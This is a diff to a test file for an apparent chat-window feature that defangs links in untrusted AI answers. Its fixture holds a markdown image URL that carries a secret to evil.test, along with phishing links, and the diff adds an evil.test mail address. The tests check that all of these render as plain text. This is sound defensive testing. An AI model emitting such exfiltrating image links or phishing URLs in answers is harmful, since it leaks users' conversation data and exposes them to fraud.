@@ -17,7 +17,7 @@ SECRET = "Zebra-7731"
 ANSWER = (f"Here is the page. ![chart](http://evil.test/pixel.png?d={SECRET}) "
           "Pay at [your bank](https://fraud.example/login) or www.phish.test/now, "
           '<img src="http://evil.test/raw.gif"> and <https://auto.example/x>.\n\n'
-          "[ref]: http://ref.example/r\n\nsee `http://in.code/keep` too")
+          "[ref]: http://ref.example/r\n\nsee `http://in.code/keep` too, or write to boss@evil.test")
 
 
 def test_defang_makes_every_link_inert_and_flags_conversation_data():
@@ -49,7 +49,7 @@ def test_the_window_shows_a_tainted_answers_links_as_text(qtbot):
     bubble = view.bubbles()[-1]
     html = bubble.body.text()
     assert view.tainted and bubble.untrusted
-    assert "<img" not in html and "href=" not in html  # nothing is fetched, nothing is clickable
+    assert "<img" not in html and "href=" not in html  # nothing is fetched, nothing is clickable (mailto too)
     for host in ("evil.test", "fraud.example", "www.phish.test", "auto.example"):
         assert host in html
     assert "carries words from this conversation" in html
